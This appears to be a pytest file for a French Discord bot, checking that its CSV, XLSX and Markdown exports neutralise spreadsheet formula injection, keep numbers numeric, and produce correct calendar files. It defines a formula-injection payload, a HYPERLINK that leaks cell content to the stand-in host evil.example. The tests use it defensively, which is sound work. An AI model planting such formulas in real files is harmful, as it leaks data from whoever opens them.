"""Files people open in Excel or LibreOffice, through SimCord: hostile text typed by members
never becomes a formula (/membres export, /bilan export CSV and XLSX, /mes-donnees exporter),
numbers in the XLSX are numbers a funder can sum, the bot's CSV reads back."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from bot import spreadsheets as S
from bot.db import Database
from bot.db.models import Member
from bot.db.models.activity import ImportedFigure
from tests.conftest import cancel_event
from tests.formula_payloads import FORMULA_PAYLOADS

SPREADSHEETS = Path(__file__).resolve().parents[1] / "data" / "spreadsheets"  # files saved by real spreadsheet apps
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"clic")'


def _last(result):
    out = [result.response] if result.response is not None else []
    out += list(result.followups)
    return [m for m in out if m.content or m.attachments][-1]


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _assert_no_formula_cell(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(S.FORMULA_TRIGGERS), cell
            assert not cell.lstrip(" \u00a0\n\t\r").startswith(S.FORMULA_TRIGGERS), cell


def _assert_no_formula_in_workbook(workbook) -> int:
    strings = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                strings += cell.data_type == "s" and str(cell.value).startswith("=")
    return strings


async def test_member_export_neutralises_every_payload(profiles, db: Database) -> None:
    w = profiles
    for i, payload in enumerate(FORMULA_PAYLOADS):
        added = await w.coordinator.slash(
            w.general,
            "membres ajouter",
            nom=f"Personne {i:02d}",
            territoire="63",
            volet="youth",
            structure=payload,
        )
        assert "est ajouté·e à l'annuaire" in added.response.content, payload
    await w.coordinator.slash(w.general, "membres ajouter", nom=HYPERLINK, territoire="03", volet="parenting")
    export = await w.coordinator.slash(w.general, "membres export")
    assert export.ephemeral
    assert export.response.content.startswith(f"Voici l'annuaire complet ({len(FORMULA_PAYLOADS) + 3} membres")
    attachment = export.response.attachments[0]
    assert attachment.filename == "annuaire-2027-06-14.csv"
    rows = _csv(await attachment.read())
    assert rows[0] == [
        "id",
        "nom",
        "sur_discord",
        "territoire",
        "volet",
        "structure",
        "type_structure",
        "metier",
        "arrivee",
        "depart",
    ]
    _assert_no_formula_cell(rows)
    async with db.transaction() as session:
        stored = {m.display_name: m.structure_name for m in await session.scalars(select(Member))}
    by_name = {r[1]: r for r in rows[1:]}
    for i in range(len(FORMULA_PAYLOADS)):
        structure = stored[f"Personne {i:02d}"]
        assert by_name[f"Personne {i:02d}"][5] == S.neutralise(structure) != structure
    assert by_name["'" + HYPERLINK][3:5] == ["03", "Parentalité"]  # codes kept: "03", not 3
    assert by_name["Alice Martin"][3:6] == ["63", "Jeunesse", "MJC Riom"]


async def test_recap_exports_keep_hostile_notes_as_text_and_numbers_as_numbers(profiles, db: Database) -> None:
    w = profiles
    await w.coordinator.slash(w.general, "config territoire-ajouter", code="15", nom=HYPERLINK)
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["annee", "territoire", "indicateur", "valeur", "note"])
    indicators = ["promeneurs", "types_structures", "types_professions", "presentations", "reunions", "accompagnements"]
    cases = [(2018 + i // len(indicators), indicators[i % len(indicators)]) for i in range(len(FORMULA_PAYLOADS))]
    for (year, indicator), payload in zip(cases, FORMULA_PAYLOADS, strict=True):
        writer.writerow([year, "", indicator, "1 234" if indicator == "promeneurs" else "12", payload])
    data = out.getvalue().encode("utf-8-sig")  # Excel "CSV UTF-8"
    done = await w.coordinator.slash(w.general, "bilan importer", fichier=("historique.csv", data))
    assert _last(done).content.startswith(
        f"Import réussi : {len(FORMULA_PAYLOADS)} chiffres pour 2018, 2019, 2020, 2021, 2022"
    )
    await w.alice.slash(w.general, "activite ajouter", type="presentation", quantite=2, date="12/03/2027")
    await w.coordinator.slash(
        w.general, "activite ajouter", type="coordination", quantite=30, territoire="63", date="01/02/2027"
    )
    await w.coordinator.slash(w.general, "activite ajouter", type="coordination", quantite=10.5, date="01/02/2027")
    async with db.transaction() as session:
        notes = {(f.year, f.indicator): f.note for f in await session.scalars(select(ImportedFigure))}

    xlsx = await w.coordinator.slash(w.general, "bilan export", annee=2027, format="xlsx")
    attachment = _last(xlsx).attachments[0]
    assert attachment.filename == "bilan-2027.xlsx"
    workbook = load_workbook(io.BytesIO(await attachment.read()))
    assert _assert_no_formula_in_workbook(workbook) > 0  # the hostile text is there, as text
    synthesis = workbook["Synthèse 2027"]
    assert [c.value for c in synthesis[1]] == [
        "Indicateur",
        "03 Allier",
        f"15 {HYPERLINK}",
        "63 Puy-de-Dôme",
        "Commun",
        "Ensemble des territoires",
    ]
    assert synthesis["C1"].data_type == "s"
    data_sheet = workbook["Données"]
    by_key = {(r[0].value, r[1].value, r[2].value): r for r in data_sheet.iter_rows(min_row=2)}
    for (year, indicator), note in notes.items():
        row = by_key[(year, None, indicator)]  # empty territory = all territories
        assert (row[5].data_type, row[5].value) == ("s", note)
        assert row[4].value == "importé"
        assert row[3].data_type == "n" and row[3].value == (1234 if indicator == "promeneurs" else 12)
    evolution = workbook["Évolution ensemble"]
    header = [c.value for c in evolution[1]]
    promeneurs = next(r for r in evolution.iter_rows(min_row=2) if r[0].value == "Promeneurs")
    cell_2018 = promeneurs[header.index("2018")]
    assert (cell_2018.data_type, cell_2018.value, cell_2018.number_format) == ("n", 1234, '#,##0"*"')
    cell_2027 = promeneurs[header.index("2027")]
    assert (cell_2027.data_type, cell_2027.value, cell_2027.number_format) == ("n", 2, "#,##0")
    activities = {r[0].value: r for r in workbook["Activités"].iter_rows(min_row=2)}
    coordination_total = activities["Coordination (h)"][-1]
    assert (coordination_total.data_type, coordination_total.value, coordination_total.number_format) == (
        "n",
        40.5,
        '#,##0.0" h"',
    )
    presentations = activities["Présentations"][-1]
    assert (presentations.value, presentations.number_format) == (2, "#,##0")
    split = {
        r[0].value: (r[1].value, r[1].number_format, round(r[2].value, 6), r[2].number_format)
        for r in workbook["Coordination"].iter_rows(min_row=2)
    }
    assert split["63 Puy-de-Dôme"] == (30, '#,##0" h"', round(30 / 40.5, 6), '0"\u00a0"%')
    assert split["Commun"] == (10.5, '#,##0.0" h"', round(10.5 / 40.5, 6), '0"\u00a0"%')

    md = await w.coordinator.slash(w.general, "bilan export", annee=2027, format="md")
    markdown = (await _last(md).attachments[0].read()).decode()
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("gfm-like", {"linkify": True}).render(markdown)
    assert "<a " not in rendered and "<img" not in rendered and "<code" not in rendered
    assert "<h3>15 =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</h3>" in rendered
    assert (
        "<li>2018, Promeneurs\u00a0: =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</li>"
        in rendered
    )

    csv_result = await w.coordinator.slash(w.general, "bilan export", annee=2027, format="csv")
    exported = await _last(csv_result).attachments[0].read()
    rows = _csv(exported)
    assert rows[0] == ["annee", "territoire", "indicateur", "valeur", "source", "note"]
    _assert_no_formula_cell(rows)
    flat = {(r[0], r[1], r[2]): r for r in rows[1:]}
    for (year, indicator), note in notes.items():
        assert flat[(str(year), "", indicator)][5] == S.neutralise(note)
    assert flat[("2027", "", "heures_coordination")][3:5] == ["40,5", "calculé"]

    # The bot's own CSV goes back in: notes come back exactly as they were stored.
    again = await w.coordinator.slash(w.general, "bilan importer", fichier=("bilan-2027.csv", exported))
    # (plus the figures the recap derives from an imported year, e.g. in-person sessions
    # unknown when only the total was imported: stored as shown, the recap is unchanged)
    assert f"({len(FORMULA_PAYLOADS)} remplacés)" in _last(again).content
    assert "lignes « calculé » (des chiffres du bot) sont laissées de côté" in _last(again).content
    async with db.transaction() as session:
        figures = list(await session.scalars(select(ImportedFigure)))
    assert {(f.year, f.indicator): f.note for f in figures if f.note} == notes
    after = await w.coordinator.slash(w.general, "bilan export", annee=2027, format="csv")
    assert await _last(after).attachments[0].read() == exported


async def test_my_data_export_has_a_neutralised_table(profiles) -> None:
    w = profiles
    changed = await w.alice.slash(w.general, "profil modifier", structure=HYPERLINK)
    assert changed.response.content == "Votre profil est à jour."
    exported = await w.alice.slash(w.general, "mes-donnees exporter")
    assert exported.ephemeral
    files = {a.filename: await a.read() for a in exported.response.attachments}
    assert list(files) == ["mes-donnees.json", "mes-donnees.csv"]
    data = json.loads(files["mes-donnees.json"])
    assert data["profil"]["structure"] == HYPERLINK  # the portable copy is exact
    rows = _csv(files["mes-donnees.csv"])
    assert rows[0] == ["rubrique", "champ", "valeur"]
    _assert_no_formula_cell(rows)
    table = {(r[0], r[1]): r[2] for r in rows[1:]}
    assert table[("profil", "structure")] == "'" + HYPERLINK
    assert table[("profil", "nom")] == "Alice Martin"
    assert table[("profil", "periodes.1.territoire")] == "63"
    assert table[("profil", "identifiant_discord")] == str(w.alice.id)


async def test_event_calendar_files_through_creation_change_and_cancellation(profiles, clock) -> None:
    from datetime import timedelta

    import vobject
    from icalendar import Calendar

    w = profiles

    async def current_ics() -> tuple:
        message = [m for m in w.announcements.history() if m.embeds][-1]
        assert [a.filename for a in message.attachments] == ["evenement-1.ics"]
        data = await message.attachments[0].read()
        calendar = Calendar.from_ical(data)
        (event,) = calendar.walk("VEVENT")
        other = vobject.readOne(data.decode("utf-8")).vevent
        assert "METHOD" not in calendar and "ORGANIZER" not in event
        assert (str(event["UID"]), str(event["STATUS"]), int(event["SEQUENCE"])) == (
            other.uid.value,
            other.status.value,
            int(other.sequence.value),
        )
        assert str(event["SUMMARY"]) == other.summary.value
        return str(event["UID"]), str(event["STATUS"]), int(event["SEQUENCE"]), other.dtstart.value

    await w.coordinator.slash(
        w.general,
        "evenement creer",
        titre="Café\u00a0; numérique, «\u00a0écrans\u00a0»",
        type="thematic_training",
        debut="22/06/2027 9h30",
        fin="16h30",
        format="in_person",
        lieu="Centre social, Riom",
        territoire="63",
    )
    created = await current_ics()
    assert created[1:3] == ("CONFIRMED", 0)
    assert created[3].isoformat() == "2027-06-22T07:30:00+00:00"
    clock.set(clock() + timedelta(hours=1))
    await w.coordinator.slash(w.general, "evenement modifier", evenement="1", debut="23/06/2027 9h30")
    moved = await current_ics()
    assert moved[0] == created[0] and moved[1] == "CONFIRMED" and moved[2] > created[2]
    assert moved[3].isoformat() == "2027-06-23T07:30:00+00:00"
    clock.set(clock() + timedelta(minutes=5))
    await cancel_event(w.coordinator, w.general, evenement="1", raison="salle indisponible")
    cancelled = await current_ics()
    assert cancelled[0] == created[0] and cancelled[1] == "CANCELLED" and cancelled[2] > moved[2]


async def test_import_files_saved_by_french_spreadsheets(profiles, db: Database) -> None:
    w = profiles
    files = SPREADSHEETS
    refused = await w.coordinator.slash(
        w.general,
        "bilan importer",
        fichier=("bilan.csv", await asyncio.to_thread((files / "excel-fr-fraction.csv").read_bytes)),
    )
    assert _last(refused).content == (
        "Ligne 3, colonne « valeur » : « 12,5 » n'est pas un nombre entier (« accompagnements » se compte en unités)."
    )
    assert _last(refused).ephemeral
    async with db.transaction() as session:
        assert list(await session.scalars(select(ImportedFigure))) == []
    for name in ("excel-mac-macintosh.csv", "excel-texte-unicode.txt"):
        done = await w.coordinator.slash(w.general, "bilan importer", fichier=(name, (files / name).read_bytes()))
        assert _last(done).content.startswith("Import réussi : 4 chiffres pour 2019 ("), name
    async with db.transaction() as session:
        stored = {
            (f.territory_code, f.indicator): (f.value, f.note) for f in await session.scalars(select(ImportedFigure))
        }
    assert stored == {
        ("", "promeneurs"): (1234, None),
        ("63", "reunions"): (12, "dont 1 visio, réunion à Vichy"),
        ("03", "reunions_jours"): (4.5, None),
        ("03", "accompagnements"): (None, "inconnu"),
    }


async def test_member_export_as_a_spreadsheet_keeps_codes_and_dates(profiles) -> None:
    import datetime as dt

    w = profiles
    await w.coordinator.slash(
        w.general,
        "membres ajouter",
        nom=HYPERLINK,
        territoire="03",
        volet="youth",
        structure="@SUM(1+1)",
        arrivee="01/09/2020",
    )
    export = await w.coordinator.slash(w.general, "membres export", format="xlsx")
    assert export.response.content == "Voici l'annuaire complet (3 membres, anciens compris), en tableur XLSX."
    attachment = export.response.attachments[0]
    assert attachment.filename == "annuaire-2027-06-14.xlsx"
    sheet = load_workbook(io.BytesIO(await attachment.read()))["Annuaire"]
    assert _assert_no_formula_in_workbook(sheet.parent) == 1
    rows = {r[1].value: r for r in sheet.iter_rows(min_row=2)}
    hostile = rows[HYPERLINK]
    assert (hostile[1].data_type, hostile[1].quotePrefix) == ("s", True)
    assert (hostile[3].data_type, hostile[3].value) == ("s", "03")  # the code keeps its zero
    assert (hostile[5].data_type, hostile[5].value) == ("s", "@SUM(1+1)")
    assert hostile[8].value == dt.datetime(2020, 9, 1) and hostile[8].number_format == "DD/MM/YYYY"
    assert hostile[9].value is None
    assert hostile[0].data_type == "n"
